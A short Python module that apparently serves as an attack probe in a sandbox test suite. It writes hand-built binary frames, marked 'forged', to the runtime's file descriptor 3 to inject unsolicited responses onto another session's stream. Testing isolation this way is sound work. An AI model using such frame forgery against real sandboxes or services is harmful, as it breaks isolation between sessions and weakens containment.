"""Answer for requests that were never put in."""

import os
import struct

from sandbox.runtime.context import current


def frame(kind, stream, payload=b"", flags=0):
    return struct.pack("<IBBHI", len(payload), kind, flags, 0, stream) + payload


def stream():
    return current.get().stream


def send(data):
    os.set_blocking(3, True)
    while data:
        data = data[os.write(3, data) :]


def attempt():
    head = b"\x92\xcc\xc8\x90"
    send(frame(6, stream() + 2, head) + frame(7, stream() + 2, b"forged", 1))
    return {"success": True, "detail": ""}
